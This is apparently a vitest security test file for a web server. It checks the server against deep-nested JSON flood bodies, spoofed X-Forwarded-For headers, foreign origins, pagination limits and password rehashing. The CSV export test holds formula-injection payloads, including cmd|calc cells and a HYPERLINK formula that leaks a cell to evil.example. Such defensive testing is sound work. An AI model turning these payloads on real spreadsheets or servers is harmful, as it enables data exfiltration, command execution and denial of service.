/**
 * The attack suite of issue 17: hostile bodies while health is probed, a rotating X-Forwarded-For against the login
 * limit, formula cells in exports, a foreign Origin, pagination bounds, scrypt rehash. Figures are printed.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_SCRYPT_COST, hashPassword, needsRehash, verifyPassword } from '../../../src/server/auth/password';
import { encodeCursor } from '../../../src/server/http/cursor';
import { findTooDeepJson, MAX_JSON_DEPTH } from '../../../src/server/http/jsonBody';
import { csvField } from '../../../src/server/http/toCsv';
import { writeAudit } from '../../../src/server/store/audit';
import { probeHealthDuring, sendRawBody } from './healthProbe';
import {
  requestBody,
  startTestServer,
  TEST_PASSWORD,
  TEST_SCRYPT_COST,
  type TestClient,
  type TestServer,
} from './testServer';

/** The worst health answer allowed while attacked, ms (issue 17). */
const STALL_BUDGET_MS = 100;

async function listening(server: TestServer): Promise<string> {
  await server.app.listen({ host: '127.0.0.1', port: 0 });
  const address = server.app.server.address() as { port: number };
  return `http://127.0.0.1:${address.port}`;
}

function browserHeaders(client: TestClient): Record<string, string> {
  return { cookie: client.cookieHeader, 'x-csrf-token': client.csrfToken ?? '' };
}

/**
 * The stall budget holds against the machine as it is: on a loaded machine the baseline's own worst probe is added
 * to the allowance only above 25 ms, so an idle machine is held to 100 ms exactly.
 */
function stallAllowanceMs(baselineWorstMs: number): number {
  return STALL_BUDGET_MS + Math.max(0, baselineWorstMs - 25);
}

describe('attack suite', () => {
  let server: TestServer;
  afterEach(async () => {
    await server?.close();
  });

  it('finds deep nesting in linear time, ignoring brackets in strings', () => {
    expect(findTooDeepJson('{"a":[1,{"b":[]}]}')).toBe(-1);
    expect(findTooDeepJson(`"${'['.repeat(1000)}"`)).toBe(-1);
    expect(findTooDeepJson(`["\\"${'['.repeat(100)}"]`)).toBe(-1);
    expect(findTooDeepJson('['.repeat(MAX_JSON_DEPTH))).toBe(-1);
    expect(findTooDeepJson('['.repeat(MAX_JSON_DEPTH + 1))).toBe(MAX_JSON_DEPTH);
    const deep = '['.repeat(9_000_000) + ']'.repeat(9_000_000);
    // V8 keeps the concatenation as two parts until a character is read, then copies it whole: done before the clock.
    expect(deep.charCodeAt(deep.length - 1)).toBe(93);
    const started = performance.now();
    expect(findTooDeepJson(deep)).toBe(MAX_JSON_DEPTH);
    const elapsed = performance.now() - started;
    // It stops where the nesting passes the limit: beside one plain pass over the 18 MB (a peer in the same run, not
    // an absolute time, which a loaded machine would miss), it takes a small part of it.
    const scanStarted = performance.now();
    let opening = 0;
    for (let i = 0; i < deep.length; i++) if (deep.charCodeAt(i) === 91) opening++;
    const scan = performance.now() - scanStarted;
    expect(opening).toBe(9_000_000);
    expect(elapsed).toBeLessThan(scan / 4);
  });

  it('an 18 MB body of nested arrays against login (three at once, sized and chunked) never stalls health 100 ms', async () => {
    server = await startTestServer({ masts: 1 });
    const baseUrl = await listening(server);
    const anonymous = server.client();
    await anonymous.fetchCsrf();
    const viettel = await server.loggedIn('viettel');
    // Buffers made once: the attacker shares this process's event loop with the server and the probe.
    const nested = Buffer.from('['.repeat(9_000_000) + ']'.repeat(9_000_000));
    // Under the default 64 KiB budget of a signed-in route: refused by the depth check before parsing.
    const nestedSmall = Buffer.from('['.repeat(30_000) + ']'.repeat(30_000));

    const quiet = () => probeHealthDuring(baseUrl, () => new Promise((resolve) => setTimeout(resolve, 1000)));
    const attackOnce = () =>
      probeHealthDuring(baseUrl, async () => {
        const rounds: (number | string)[][] = [];
        const started = performance.now();
        // At least three rounds and a second of attack, so that the probe sees it.
        while (rounds.length < 3 || performance.now() - started < 1000) {
          const answers = await Promise.all([
            ...[0, 1, 2].map(() => sendRawBody(baseUrl, 'POST', '/api/session', nested, browserHeaders(anonymous))),
            sendRawBody(baseUrl, 'POST', '/api/session', nested, browserHeaders(anonymous), { chunked: true }),
            sendRawBody(baseUrl, 'POST', '/api/requests', nestedSmall, browserHeaders(viettel)),
            sendRawBody(baseUrl, 'POST', '/api/requests', nestedSmall, browserHeaders(viettel), { chunked: true }),
          ]);
          rounds.push(answers.map((answer) => answer.status));
        }
        return rounds;
      });
    // Other test files share the 2 cores, so a load spike can land in the attack's second. Up to three attempts,
    // each against its own baseline (the worse of a quiet second before and after): a stall the server causes
    // shows in every attempt (before the budgets: 8.4 s each time), a passing spike does not.
    const attempts: string[] = [];
    let passed = false;
    for (let attempt = 0; attempt < 3 && !passed; attempt++) {
      const before = await quiet();
      const attack = await attackOnce();
      const after = await quiet();
      const baselineWorstMs = Math.max(before.worstMs, after.worstMs);
      const rounds = attack.result as (number | string)[][];
      // Login: 413 (or the socket cut after the answer); the signed-in route: 400, nested too deep.
      for (const answers of rounds) {
        for (const status of answers.slice(0, 4)) expect([413, 'ECONNRESET', 'EPIPE']).toContain(status);
        expect(answers.slice(4)).toEqual([400, 400]);
      }
      expect(attack.probes).toBeGreaterThan(0);
      passed = attack.worstMs < stallAllowanceMs(baselineWorstMs);
      attempts.push(
        `health worst ${attack.worstMs.toFixed(1)} ms (median ${attack.medianMs.toFixed(1)} ms, ${attack.probes} ` +
          `probes, ${rounds.length} rounds of 6 bodies), baseline worst ${baselineWorstMs.toFixed(1)} ms`,
      );
    }
    console.log(`hostile bodies: ${attempts.join('; ')}`);
    expect(passed, attempts.join('; ')).toBe(true);
    // The server still answers normally.
    expect((await viettel.post('/api/requests', requestBody('T-0000'))).status).toBe(201);
  });

  it('behind --trust-proxy, a client rotating X-Forwarded-For stays in its own login bucket', async () => {
    server = await startTestServer({ masts: 1, trustProxy: true, loginRateLimit: { max: 3, timeWindowMs: 60_000 } });
    const attacker = server.client();
    await attacker.fetchCsrf();
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      // The proxy (on loopback) appends the address it saw; the client wrote the rest of the header itself.
      const forged = `10.${i}.0.1, 192.0.2.${i}`;
      const answer = await attacker.request(
        'POST',
        '/api/session',
        { username: 'viettel', password: 'wrong password' },
        { headers: { 'x-forwarded-for': `${forged}, 203.0.113.7` }, remoteAddress: '127.0.0.1' },
      );
      statuses.push(answer.status);
    }
    expect(statuses).toEqual([401, 401, 401, 429, 429, 429]);
    // Another client through the same proxy has its own bucket.
    const neighbour = server.client();
    await neighbour.fetchCsrf();
    const other = await neighbour.request(
      'POST',
      '/api/session',
      { username: 'viettel', password: 'wrong password' },
      { headers: { 'x-forwarded-for': '203.0.113.8' }, remoteAddress: '127.0.0.1' },
    );
    expect(other.status).toBe(401);
    // A client that reaches the server directly (not through a trusted proxy) is counted by its socket address.
    const direct = server.client();
    await direct.fetchCsrf();
    const directStatuses: number[] = [];
    for (let i = 0; i < 4; i++) {
      const answer = await direct.request(
        'POST',
        '/api/session',
        { username: 'viettel', password: 'wrong password' },
        { headers: { 'x-forwarded-for': `198.51.100.${i}` }, remoteAddress: '192.0.2.50' },
      );
      directStatuses.push(answer.status);
    }
    expect(directStatuses).toEqual([401, 401, 401, 429]);
  });

  it('trusts only the configured proxies: a hop from an untrusted proxy is the client', async () => {
    server = await startTestServer({
      masts: 1,
      trustProxy: ['10.0.0.0/8'],
      loginRateLimit: { max: 2, timeWindowMs: 60_000 },
    });
    const client = server.client();
    await client.fetchCsrf();
    const statuses: number[] = [];
    for (let i = 0; i < 3; i++) {
      // 10.1.1.1 is a trusted proxy; 192.0.2.99 (not trusted) is the client whatever it put before itself.
      const answer = await client.request(
        'POST',
        '/api/session',
        { username: 'viettel', password: 'wrong password' },
        { headers: { 'x-forwarded-for': `172.16.${i}.1, 192.0.2.99, 10.1.1.1` }, remoteAddress: '10.2.2.2' },
      );
      statuses.push(answer.status);
    }
    expect(statuses).toEqual([401, 401, 429]);
  });

  it('limits state-changing requests per account and per address', async () => {
    server = await startTestServer({
      masts: 20,
      writeRateLimit: { perUser: 3, perAddress: 8, timeWindowMs: 60_000 },
    });
    const viettel = await server.loggedIn('viettel');
    const statuses: number[] = [];
    for (let i = 0; i < 4; i++) {
      statuses.push((await viettel.post('/api/requests', requestBody(`T-000${i}`))).status);
    }
    expect(statuses).toEqual([201, 201, 201, 429]);
    const refused = await viettel.post('/api/requests', requestBody('T-0005'));
    expect(refused.body).toMatchObject({ error: 'rate_limited', message: expect.stringMatching(/this account/) });
    // Reads are not limited.
    expect((await viettel.get('/api/requests')).status).toBe(200);
    // Another account from the same address: its own 3, until the address's 8 are used (logins and refused
    // requests count: 6 so far, this login the 7th).
    const vinaphone = await server.loggedIn('vinaphone');
    expect((await vinaphone.post('/api/requests', requestBody('T-0010'))).status).toBe(201);
    const next = await vinaphone.post('/api/requests', requestBody('T-0011'));
    expect(next.status).toBe(429);
    expect(next.body).toMatchObject({ message: expect.stringMatching(/this address/) });
  });

  it('refuses a state-changing request from another origin with 403, before anything else', async () => {
    server = await startTestServer({ masts: 5 });
    const viettel = await server.loggedIn('viettel');
    for (const origin of ['https://evil.example', 'http://localhost:8080', 'null']) {
      const answer = await viettel.request('POST', '/api/requests', requestBody('T-0000'), { headers: { origin } });
      expect(answer.status, origin).toBe(403);
      expect(answer.body, origin).toMatchObject({ error: 'forbidden_origin' });
      expect((answer.body as { message: string }).message).toContain(origin);
    }
    const logout = await viettel.request('DELETE', '/api/session', undefined, {
      headers: { origin: 'https://evil.example' },
    });
    expect(logout.status).toBe(403);
    // Its own origin (inject's host is localhost:80), and no Origin at all, pass on to the CSRF check.
    const own = await viettel.request('POST', '/api/requests', requestBody('T-0001'), {
      headers: { origin: 'http://localhost' },
    });
    expect(own.status).toBe(201);
    expect((await viettel.post('/api/requests', requestBody('T-0002'))).status).toBe(201);
    // Reads are not checked (a link from elsewhere may open the app).
    expect(
      (await viettel.request('GET', '/api/requests', undefined, { headers: { origin: 'https://x.example' } })).status,
    ).toBe(200);
    // Login too.
    const anonymous = server.client();
    await anonymous.fetchCsrf();
    const login = await anonymous.request(
      'POST',
      '/api/session',
      { username: 'viettel', password: TEST_PASSWORD },
      { headers: { origin: 'https://evil.example' } },
    );
    expect(login.status).toBe(403);
  });

  it('sends a strict Content-Security-Policy: no inline scripts, WebAssembly and blob workers allowed', async () => {
    server = await startTestServer({ masts: 1 });
    const answer = await server.client().get('/api/health');
    const policy = String(answer.headers['content-security-policy']);
    const directives = new Map(policy.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]));
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(directives.get('worker-src')).toEqual(["'self'", 'blob:']);
    expect(directives.get('img-src')).toEqual(["'self'", 'data:', 'blob:']);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect(policy).not.toMatch(/'unsafe-eval'/);
  });

  it("hashes at OWASP's scrypt cost and rehashes an older, cheaper hash on the next good login", async () => {
    expect(DEFAULT_SCRYPT_COST).toEqual({ N: 2 ** 17, r: 8, p: 1 });
    const strong = await hashPassword('a long enough password');
    expect(strong).toMatch(/^scrypt\$131072\$8\$1\$/);
    expect(await verifyPassword('a long enough password', strong)).toBe(true);
    expect(needsRehash(strong)).toBe(false);
    expect(needsRehash(strong.replace('$131072$', '$32768$'))).toBe(true);

    // Accounts were made at TEST_SCRYPT_COST (N = 1024); this server wants N = 2048.
    const stronger = { ...TEST_SCRYPT_COST, N: 2048 };
    server = await startTestServer({ masts: 1, passwordCost: stronger });
    const hashOf = async () =>
      ((await server.db.get("SELECT password_hash FROM users WHERE username = 'viettel'")) as { password_hash: string })
        .password_hash;
    const before = await hashOf();
    expect(before).toMatch(/^scrypt\$1024\$/);
    const client = server.client();
    await client.fetchCsrf();
    expect((await client.post('/api/session', { username: 'viettel', password: 'wrong password' })).status).toBe(401);
    expect(await hashOf()).toBe(before); // a wrong password changes nothing
    expect((await client.post('/api/session', { username: 'viettel', password: TEST_PASSWORD })).status).toBe(200);
    const after = await hashOf();
    expect(after).toMatch(/^scrypt\$2048\$8\$1\$/);
    expect(await verifyPassword(TEST_PASSWORD, after)).toBe(true);
    // The new hash works, and is not replaced again.
    const again = server.client();
    expect((await again.login('viettel')).status).toBe(200);
    expect(await hashOf()).toBe(after);
  });

  it('neutralises formula cells in the audit CSV export (OWASP), keeping numbers as numbers', async () => {
    const cells = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
      'a;=1+1',
    ];
    expect(cells.map(csvField)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
      `"'+cmd|' /C calc'!A0"`,
      `"'-2+3+cmd|' /C calc'!A0"`,
      `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
      `"'\t=1+1"`,
      `"'\r=1+1"`,
      `"'\uFF1D1+1"`,
      '"a;=1+1"',
    ]);
    // Decided: numbers stay numbers, whether given as numbers or as plain decimal text.
    expect([-5.2, '-5.2', 42, '0.5', '-5.2e3', '-'].map(csvField)).toEqual([
      '-5.2',
      '-5.2',
      '42',
      '0.5',
      `"'-5.2e3"`,
      `"'-"`,
    ]);

    server = await startTestServer({ masts: 1 });
    await writeAudit(server.db, {
      at: server.clock.now,
      actor: { id: null, username: "=cmd|' /C calc'!A0", role: 'system' } as never,
      provinceId: 'VN25',
      action: '@SUM(A1)',
      entityType: 'mast',
      entityId: '+HYPERLINK("http://evil.example")',
      oldValue: null,
      newValue: '-1+1',
    });
    const planner = await server.loggedIn('planner');
    const csv = (await planner.get('/api/audit.csv')).text;
    const lines = csv.replace('\uFEFF', '').trimEnd().split('\r\n');
    const attack = lines.find((line) => line.includes('HYPERLINK')) ?? '';
    expect(attack).toContain(`,"'=cmd|' /C calc'!A0",`);
    expect(attack).toContain(`,"'@SUM(A1)",`);
    expect(attack).toContain(`,"'+HYPERLINK(""http://evil.example"")",`);
    // The value is stored as JSON text ("-1+1" with its quotes): it starts with a quote, so it is no formula.
    expect(attack).toMatch(/,"""-1\+1"""$/);
    // No cell of the file starts a formula.
    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+@\t]/);
  });

  it('pages every list route with a cursor; a limit over the maximum is 400, not clamped', async () => {
    server = await startTestServer({ masts: 250 });
    const ministry = await server.loggedIn('ministry');
    const viettel = await server.loggedIn('viettel');
    for (const [url, max] of [
      ['/api/provinces/VN25/masts', 10_000],
      ['/api/requests', 5000],
      ['/api/audit', 1000],
    ] as const) {
      const over = await ministry.get(`${url}?limit=${max + 1}`);
      expect(over.status, url).toBe(400);
      expect((over.body as { details: { issues: { path: string }[] } }).details.issues[0].path).toBe('limit');
      expect((await ministry.get(`${url}?limit=${max}`)).status, url).toBe(200);
      expect((await ministry.get(`${url}?limit=0`)).status, url).toBe(400);
      for (const bad of ['nonsense', encodeCursor([1, 2, 3]), Buffer.from('{"a":1}').toString('base64url')]) {
        const answer = await ministry.get(`${url}?after=${encodeURIComponent(bad)}`);
        expect(answer.status, `${url} ${bad}`).toBe(400);
      }
    }

    // Masts: 250 in pages of 100, each once, in id order, nextCursor null at the end.
    const pagesOf = async (client: TestClient, url: string, key: string) => {
      const pages: unknown[][] = [];
      let cursor: string | null = null;
      do {
        const answer = await client.get(`${url}${cursor ? `&after=${encodeURIComponent(cursor)}` : ''}`);
        expect(answer.status, answer.text.slice(0, 200)).toBe(200);
        const body = answer.body as Record<string, unknown[]> & { nextCursor: string | null };
        pages.push(body[key]);
        cursor = body.nextCursor;
      } while (cursor !== null);
      return pages;
    };
    const mastPages = await pagesOf(ministry, '/api/provinces/VN25/masts?limit=100', 'masts');
    expect(mastPages.map((p) => p.length)).toEqual([100, 100, 50]);
    const ids = mastPages.flat().map((m) => (m as { id: string }).id);
    expect(ids).toEqual(Array.from({ length: 250 }, (_, i) => `T-${String(i).padStart(4, '0')}`));
    // Exactly a page's worth: no empty last page.
    expect((await ministry.get('/api/provinces/VN25/masts?limit=250')).body).toMatchObject({ nextCursor: null });

    // Requests: all filed at the same instant (the test clock stands still), so ties are broken by id.
    for (let i = 0; i < 23; i++) {
      expect((await viettel.post('/api/requests', requestBody(`T-${String(i).padStart(4, '0')}`))).status).toBe(201);
    }
    const requestPages = await pagesOf(viettel, '/api/requests?limit=5', 'requests');
    expect(requestPages.map((p) => p.length)).toEqual([5, 5, 5, 5, 3]);
    const requestIds = requestPages.flat().map((r) => (r as { id: string }).id);
    expect(new Set(requestIds).size).toBe(23);
    expect(requestIds).toEqual([...requestIds].sort());

    // Audit: newest first by id; the old beforeId still works.
    const auditPages = await pagesOf(ministry, '/api/audit?limit=7', 'entries');
    const auditIds = auditPages.flat().map((e) => (e as { id: number }).id);
    const total = ((await server.db.get('SELECT COUNT(*) AS n FROM audit_log')) as { n: number }).n;
    expect(auditIds).toHaveLength(total);
    expect(auditIds).toEqual([...auditIds].sort((a, b) => b - a));
    const before = (await ministry.get(`/api/audit?limit=3&beforeId=${auditIds[2]}`)).body as {
      entries: { id: number }[];
    };
    expect(before.entries.map((e) => e.id)).toEqual(auditIds.slice(3, 6));
  });
});
